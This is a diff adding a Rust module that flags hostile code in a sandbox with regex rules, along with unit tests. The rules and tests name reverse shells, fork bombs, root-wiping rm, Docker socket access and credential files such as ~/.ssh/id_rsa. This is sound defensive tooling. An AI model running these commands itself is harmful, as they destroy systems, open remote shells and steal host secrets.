@@ -1,0 +1,227 @@
+//! The code policy: per-language patterns that flag code trying what a
+//! sandboxed program has no business doing (escaping the container, reaching
+//! the Docker socket, opening a reverse shell, fork bombs, …). It is a
+//! tripwire over the real boundary (the container, seccomp, no network), not
+//! the boundary: patterns are easy to evade, and code that matches would
+//! still be stopped by the container. In `audit` mode (the default) a match
+//! is recorded as a violation and the code runs; in `block` mode it is refused
+//! with the rule's name.
+
+use crate::runtime::Language;
+use regex::Regex;
+use std::sync::OnceLock;
+
+/// What happens when code matches a rule.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PolicyMode {
+    /// Record a violation; run the code.
+    Audit,
+    /// Refuse the code, naming the rule.
+    Block,
+    /// No checks.
+    Off,
+}
+
+impl PolicyMode {
+    pub fn parse(value: &str) -> Option<Self> {
+        match value {
+            "audit" => Some(Self::Audit),
+            "block" => Some(Self::Block),
+            "off" => Some(Self::Off),
+            _ => None,
+        }
+    }
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Audit => "audit",
+            Self::Block => "block",
+            Self::Off => "off",
+        }
+    }
+}
+
+/// One rule.
+pub struct Rule {
+    pub id: &'static str,
+    /// What the pattern is a sign of, in plain words.
+    pub description: &'static str,
+    /// Languages the rule applies to; empty means every language.
+    pub languages: &'static [Language],
+    pattern: Regex,
+}
+
+/// A rule that matched, with the text that matched.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Violation {
+    pub rule: &'static str,
+    pub description: &'static str,
+    pub matched: String,
+}
+
+const ALL: &[Language] = &[];
+const PYTHON: &[Language] = &[Language::Python];
+const NODE: &[Language] = &[Language::JavaScript, Language::TypeScript];
+const BASH: &[Language] = &[Language::Bash];
+const NATIVE: &[Language] = &[Language::Python, Language::Go, Language::Rust];
+
+/// (id, description, languages, pattern)
+const RULES: &[(&str, &str, &[Language], &str)] = &[
+    (
+        "docker-socket",
+        "reaches for the Docker socket (control of the host's containers)",
+        ALL,
+        r"docker\.sock|/var/run/docker|/run/containerd",
+    ),
+    (
+        "reverse-shell",
+        "opens a shell over the network",
+        ALL,
+        r"/dev/(tcp|udp)/|\bnc(at)?\s+(-\w+\s+)*-e\b|\bbash\s+-i\s+>&|\bsocat\b.*\bexec:",
+    ),
+    (
+        "fork-bomb",
+        "starts processes without end",
+        BASH,
+        r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
+    ),
+    (
+        "fork-loop",
+        "forks in an endless loop",
+        PYTHON,
+        r"while\s+True\s*:\s*\n?\s*os\.fork\(\)",
+    ),
+    (
+        "wipe-root",
+        "deletes the whole filesystem",
+        ALL,
+        r"\brm\s+(-[a-zA-Z]*\s+)*-[a-zA-Z]*r[a-zA-Z]*\s+(-[a-zA-Z]+\s+)*(--no-preserve-root\s+)?/(\*|\s|$)",
+    ),
+    (
+        "namespace-escape",
+        "tries to create or enter namespaces, mount, or trace processes",
+        ALL,
+        r"\b(unshare|setns|pivot_root|nsenter)\b|\bmount\s+-t\b|\bptrace\s*\(|PTRACE_(ATTACH|TRACEME|SEIZE)",
+    ),
+    (
+        "kernel-interface",
+        "reaches kernel interfaces a sandbox never needs (modules, keyrings, bpf, kexec)",
+        ALL,
+        r"\b(insmod|modprobe|init_module|finit_module|kexec_load|keyctl|add_key|bpf\s*\(|perf_event_open|userfaultfd)\b",
+    ),
+    (
+        "host-secrets",
+        "looks for credentials of the host or its user",
+        ALL,
+        r"\.ssh/id_|\.aws/credentials|\.docker/config\.json|/etc/shadow|/proc/1/(environ|root)",
+    ),
+    (
+        "raw-syscall",
+        "issues raw system calls",
+        NATIVE,
+        r"ctypes\.CDLL\(\s*None|libc\.syscall\(|syscall\.(RawSyscall|Syscall6?)\(|libc::syscall\(",
+    ),
+    (
+        "process-internals",
+        "uses Node's internal process bindings",
+        NODE,
+        r"process\.binding\(|process\._linkedBinding\(",
+    ),
+    (
+        "crypto-miner",
+        "looks like a cryptocurrency miner",
+        ALL,
+        r"stratum\+(tcp|ssl)://|\bxmrig\b|\bminerd\b",
+    ),
+];
+
+fn rules() -> &'static [Rule] {
+    static COMPILED: OnceLock<Vec<Rule>> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        RULES
+            .iter()
+            .filter_map(|(id, description, languages, pattern)| match Regex::new(pattern) {
+                Ok(pattern) => Some(Rule {
+                    id,
+                    description,
+                    languages,
+                    pattern,
+                }),
+                Err(error) => {
+                    tracing::error!(rule = id, %error, "policy rule does not compile; skipped");
+                    None
+                }
+            })
+            .collect()
+    })
+}
+
+/// Every rule `code` in `language` matches.
+pub fn check(language: Language, code: &str) -> Vec<Violation> {
+    rules()
+        .iter()
+        .filter(|rule| rule.languages.is_empty() || rule.languages.contains(&language))
+        .filter_map(|rule| {
+            let found = rule.pattern.find(code)?;
+            Some(Violation {
+                rule: rule.id,
+                description: rule.description,
+                matched: found.as_str().chars().take(120).collect(),
+            })
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ids(language: Language, code: &str) -> Vec<&'static str> {
+        check(language, code).into_iter().map(|v| v.rule).collect()
+    }
+
+    #[test]
+    fn every_rule_compiles() {
+        assert_eq!(rules().len(), RULES.len());
+    }
+
+    #[test]
+    fn hostile_code_is_flagged() {
+        assert_eq!(ids(Language::Bash, ":(){ :|:& };:"), ["fork-bomb"]);
+        assert_eq!(ids(Language::Bash, "rm -rf / --no-preserve-root"), ["wipe-root"]);
+        assert_eq!(ids(Language::Bash, "rm -rf --no-preserve-root /"), ["wipe-root"]);
+        assert_eq!(
+            ids(Language::Bash, "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
+            ["reverse-shell"]
+        );
+        assert_eq!(ids(Language::Python, "open('/var/run/docker.sock')"), ["docker-socket"]);
+        assert_eq!(ids(Language::Bash, "unshare -r bash"), ["namespace-escape"]);
+        assert_eq!(
+            ids(Language::Python, "import ctypes\nctypes.CDLL(None).syscall(272, 0)"),
+            ["raw-syscall"]
+        );
+        assert_eq!(
+            ids(Language::JavaScript, "process.binding('spawn_sync')"),
+            ["process-internals"]
+        );
+        assert_eq!(ids(Language::Go, "syscall.RawSyscall(1, 0, 0, 0)"), ["raw-syscall"]);
+        assert_eq!(ids(Language::Bash, "cat ~/.ssh/id_rsa"), ["host-secrets"]);
+    }
+
+    #[test]
+    fn ordinary_code_is_not_flagged() {
+        for (language, code) in [
+            (Language::Python, "import pandas as pd\nprint(pd.DataFrame({'a': [1]}))"),
+            (Language::Bash, "rm -rf ./build /tmp/out && mkdir -p build"),
+            (Language::Bash, "ls -la / && df -h"),
+            (
+                Language::JavaScript,
+                "const fs = require('fs'); console.log(fs.readdirSync('.'))",
+            ),
+            (Language::Rust, "fn main() { println!(\"mount point\"); }"),
+            (Language::Go, "fmt.Println(\"hello\")"),
+        ] {
+            assert!(ids(language, code).is_empty(), "{language:?}: {code}");
+        }
+    }
+}
